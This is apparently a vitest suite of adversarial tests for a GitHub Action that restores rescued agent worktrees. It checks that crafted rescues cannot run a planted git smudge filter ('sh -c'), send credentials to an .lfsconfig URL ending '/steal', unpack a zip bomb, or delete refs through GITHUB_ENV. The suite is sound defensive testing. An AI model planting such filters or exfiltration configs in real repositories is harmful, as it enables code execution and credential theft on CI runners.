// Covers: src/rescue/find-rescue.ts, src/rescue/restore.ts through the bundles.
// What an adversarial run found against restore, each a test that failed on the code before its fix. A rescue
// is data anyone who may push (or an earlier agent) can make: nothing in it may run a program in the main step,
// which holds the runtime token, or send the repository's credentials anywhere; restored work is work, whatever
// this checkout ignores; a name reaching the post through GITHUB_ENV deletes nothing; what git or the file
// system refuses is named, never a failed step after the worktree exists. Through the committed bundles; the
// artifact service is the stand-in (results-service.ts), rescues are made by hand (helpers/craft.ts).
import * as fs from 'node:fs'
import * as http from 'node:http'
import type { AddressInfo } from 'node:net'
import * as path from 'node:path'
import { describe, expect, it, type TestContext } from 'vitest'
import { blob, bundleZip, entriesOf, raw, rawTree, scratch, snapshotCommit, type Entry } from '../helpers/craft.js'
import { git, worktreePaths, write } from '../helpers/repos.js'
import { checkout, hostedJob, lab } from '../helpers/restore.js'
import { deflatedZip, startResultsService } from '../helpers/results-service.js'

const NAME = 'agent-worktree-rescue-crafted-agents-41-1'
/** The cases of a file run at once, each a hosted job or more over hundreds of MB: minutes on a loaded machine. */
const SLOW_MS = 180_000

let machines = 0

/**
 * A rescue made by hand: the base's tree with `index` entries added as the index and `left` ones more as the
 * files left; restored by a later job in a checkout of its own, which `prepare` may change first.
 */
async function restoreCrafted(
  t: TestContext,
  o: { index?: (repo: string) => Entry[]; left?: (repo: string) => Entry[]; prepare?: (workspace: string) => void; env?: Record<string, string> }
) {
  const l = lab(t, 'push')
  const service = await startResultsService()
  t.onTestFinished(() => service.close())
  const { repo, base, baseTree } = scratch(l)
  const sorted = (entries: Entry[]): Entry[] => entries.sort((a, b) => Buffer.compare(Buffer.from(a[1]), Buffer.from(b[1])))
  const indexEntries = [...entriesOf(repo, baseTree).filter(e => !(o.index?.(repo) ?? []).some(x => String(x[1]) === String(e[1]))), ...(o.index?.(repo) ?? [])]
  const index = rawTree(repo, sorted([...indexEntries]))
  const tree = rawTree(repo, sorted([...indexEntries, ...(o.left?.(repo) ?? [])]))
  service.artifacts.set(NAME, bundleZip(repo, snapshotCommit(repo, { tree, index, head: base }).commit, base))
  const workspace = checkout(l, path.join(l.repos.root, `later-${++machines}`, 'sample', 'sample'))
  o.prepare?.(workspace)
  const j = hostedJob(l, { ...service.env, GITHUB_JOB: 'publish', ...o.env }, workspace)
  const main = await j.uses('.', { restore: NAME })
  return { l, j, main, workspace, wt: main.outputs['worktree-path'] }
}

describe.concurrent('nothing in a rescue runs a program in the main step or sends a credential', { timeout: SLOW_MS }, () => {
  it('a filter the rescued .gitattributes name (planted in the shared config by an earlier agent) does not run', async t => {
    const ran = path.join(fs.mkdtempSync('/tmp/restore-found-'), 'ran')
    t.onTestFinished(() => fs.rmSync(path.dirname(ran), { recursive: true, force: true }))
    const { main } = await restoreCrafted(t, {
      index: repo => [['100644', '.gitattributes', blob(repo, '* filter=evil\n')]],
      prepare: workspace => git(workspace, 'config', 'filter.evil.smudge', `sh -c 'echo ran >>${ran}; cat'`)
    })
    expect(main.exitCode, main.stdout).toBe(0)
    expect(fs.existsSync(ran)).toBe(false)
  })

  it('git-lfs, configured as `git lfs install` does, never talks to the server a rescued .lfsconfig names', async t => {
    const hits: string[] = []
    const server = http.createServer((req, res) => {
      hits.push(`${req.method} ${req.url} ${req.headers.authorization ?? ''}`)
      res.writeHead(404)
      res.end()
    })
    await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve))
    t.onTestFinished(() => new Promise<void>(resolve => server.close(() => resolve())))
    const home = fs.mkdtempSync('/tmp/restore-found-home-')
    t.onTestFinished(() => fs.rmSync(home, { recursive: true, force: true }))
    fs.writeFileSync(
      path.join(home, '.gitconfig'),
      '[filter "lfs"]\n\tclean = git-lfs clean -- %f\n\tsmudge = git-lfs smudge -- %f\n\tprocess = git-lfs filter-process\n\trequired = true\n'
    )
    const pointer = `version https://git-lfs.github.com/spec/v1\noid sha256:${'ab'.repeat(32)}\nsize 12\n`
    const { main, wt } = await restoreCrafted(t, {
      index: repo => [
        ['100644', '.gitattributes', blob(repo, '*.bin filter=lfs diff=lfs merge=lfs -text\n')],
        ['100644', '.lfsconfig', blob(repo, `[lfs]\n\turl = http://127.0.0.1:${(server.address() as AddressInfo).port}/steal\n`)],
        ['100644', 'model.bin', blob(repo, pointer)]
      ],
      // An unscoped extra header, as some setups have it for their own host.
      prepare: workspace => git(workspace, 'config', 'http.extraheader', 'AUTHORIZATION: basic c2VjcmV0'),
      env: { HOME: home }
    })
    expect(main.exitCode, main.stdout).toBe(0)
    expect(hits).toEqual([])
    expect(fs.readFileSync(path.join(wt, 'model.bin'), 'utf8')).toBe(pointer)
  })
})

describe.concurrent('restored work is work', { timeout: SLOW_MS }, () => {
  it('an untracked file put back that this checkout ignores (info/exclude) keeps the worktree', async t => {
    const { j, main, wt } = await restoreCrafted(t, {
      left: repo => [['100644', 'notes.local', blob(repo, 'two hours of findings\n')]],
      prepare: workspace => fs.appendFileSync(path.join(workspace, '.git', 'info', 'exclude'), '*.local\n')
    })
    expect(main.exitCode, main.stdout).toBe(0)
    const [post] = await j.runPosts()
    expect(post.stdout).toContain(`Kept \`${wt}\``)
    expect(fs.readFileSync(path.join(wt, 'notes.local'), 'utf8')).toBe('two hours of findings\n')
  })

  it('a STATE_restore-ref a later step exports through GITHUB_ENV deletes no ref in the post', async t => {
    const l = lab(t, 'push')
    const j = hostedJob(l)
    const main = await j.uses('.', { 'on-exit': 'keep' })
    expect(main.exitCode, main.stdout).toBe(0)
    const tree = git(l.workspace, 'rev-parse', 'HEAD^{tree}')
    const precious = raw(l.workspace, ['commit-tree', '-p', 'HEAD', '-m', 'precious, not pushed', tree])
    git(l.workspace, 'update-ref', 'refs/heads/precious', precious)
    j.exported['STATE_restore-ref'] = 'refs/heads/precious'
    await j.runPosts()
    expect(git(l.workspace, 'rev-parse', 'refs/heads/precious')).toBe(precious)
  })

  it('a re-run with two unnamed steps: the step that left no rescue takes none of the other’s', async t => {
    const l = lab(t, 'push')
    const service = await startResultsService()
    t.onTestFinished(() => service.close())
    const first = hostedJob(l, service.env)
    const a = await first.uses('.', { rescue: 'artifact' })
    await first.uses('.', { rescue: 'artifact' })
    write(a.outputs['worktree-path'], 'planner-notes.txt', 'the planner step’s work\n')
    await first.runPosts()
    const rerun = hostedJob(l, { ...service.env, GITHUB_RUN_ATTEMPT: '2' }, checkout(l, path.join(l.repos.root, 'rerun', 'sample', 'sample')))
    const a2 = await rerun.uses('.', { rescue: 'artifact', restore: 'auto' })
    const b2 = await rerun.uses('.', { rescue: 'artifact', restore: 'auto' })
    expect(a2.outputs.restored, a2.stdout).toBe('true')
    expect(b2.outputs.restored, b2.stdout).toBe('false')
  })
})

describe.concurrent('what git or the file system refuses is named, or an input error before anything is created', { timeout: SLOW_MS }, () => {
  it('a name longer than the file system allows is named as not put back; the rest is restored', async t => {
    const { main, wt } = await restoreCrafted(t, {
      left: repo => [
        ['040000', 'd'.repeat(300), rawTree(repo, [['100644', 'f.txt', blob(repo, 'x\n')]])],
        ['100644', 'zz-after.txt', blob(repo, 'after\n')]
      ]
    })
    expect(main.exitCode, main.stdout).toBe(0)
    expect(fs.readFileSync(path.join(wt, 'zz-after.txt'), 'utf8')).toBe('after\n')
    expect(main.annotations.map(a => a.message).join('\n')).toMatch(/not put back: `d{300}\/f\.txt` \(ENAMETOOLONG\)/)
  })

  it('files of more than a string of git’s output can hold (600 MB, a few hundred KB sent) are restored', async t => {
    const { main, wt } = await restoreCrafted(t, {
      left: repo => {
        const big = blob(repo, Buffer.alloc(6 * 1024 * 1024, 'log line\n'))
        return Array.from({ length: 100 }, (_, i) => ['100644', `logs/run-${String(i).padStart(3, '0')}.log`, big] as Entry)
      }
    })
    expect(main.exitCode, main.stdout).toBe(0)
    expect(fs.statSync(path.join(wt, 'logs/run-099.log')).size).toBe(6 * 1024 * 1024)
  })

  it('a file larger than one string of git’s output can hold (540 MiB, a few hundred KB sent) is restored', async t => {
    const size = 540 * 1024 * 1024
    const { main, wt } = await restoreCrafted(t, { left: repo => [['100644', 'model.bin', blob(repo, Buffer.alloc(size, 'w'))]] })
    expect(main.exitCode, main.stdout).toBe(0)
    expect(fs.statSync(path.join(wt, 'model.bin')).size).toBe(size)
  })

  it.for([
    [
      'says it unpacks to 300 MB (more than rescue-max-size: 100MB holds)',
      {},
      /its artifact unpacks to 300\.0 MB, more than a rescue within this step's rescue-max-size holds/
    ],
    ['says it holds a megabyte and inflates to 300 MB', { 'rescue.bundle': 1024 * 1024 }, /`rescue\.bundle` holds more than the 1048576 bytes its zip says/]
  ] as const)('an artifact of a few hundred KB that %s: refused, and no more than it may hold is written', async ([, claims, error], t) => {
    const l = lab(t, 'push')
    const service = await startResultsService()
    t.onTestFinished(() => service.close())
    service.artifacts.set(NAME, deflatedZip({ 'rescue.bundle': Buffer.alloc(300 * 1024 * 1024), 'README.txt': 'A rescue.\n' }, claims))
    expect(service.artifacts.get(NAME)!.length).toBeLessThan(1024 * 1024)
    const workspace = checkout(l, path.join(l.repos.root, 'bomb', 'sample', 'sample'))
    const j = hostedJob(l, { ...service.env, GITHUB_JOB: 'publish' }, workspace)
    const main = await j.uses('.', { restore: NAME })
    expect(main.exitCode, main.stdout).toBe(1)
    expect(main.annotations.find(a => a.level === 'error')?.message).toMatch(error)
    expect(worktreePaths(workspace)).toEqual([workspace])
  })

  it('an index tree with a .git entry is not a rescue', async t => {
    const { main, workspace } = await restoreCrafted(t, {
      index: repo => [['040000', '.git', rawTree(repo, [['100644', 'config', blob(repo, '[core]\n\tbare = true\n')]])]]
    })
    expect(main.exitCode).toBe(1)
    expect(main.annotations.find(a => a.level === 'error')?.message).toContain(`Input 'restore' has the value \`${NAME}\``)
    expect(worktreePaths(workspace)).toEqual([workspace])
  })

  it('a branch name git refuses as a ref is an input error', async t => {
    const l = lab(t, 'push')
    for (const name of ['agent-worktree-rescue/a/b.lock', 'agent-worktree-rescue/.a/b']) {
      const main = await hostedJob(l).uses('.', { restore: name })
      expect(main.annotations.find(a => a.level === 'error')?.message, name).toContain(`Input 'restore' has the value \`${name}\`: git refuses it`)
    }
  })
})
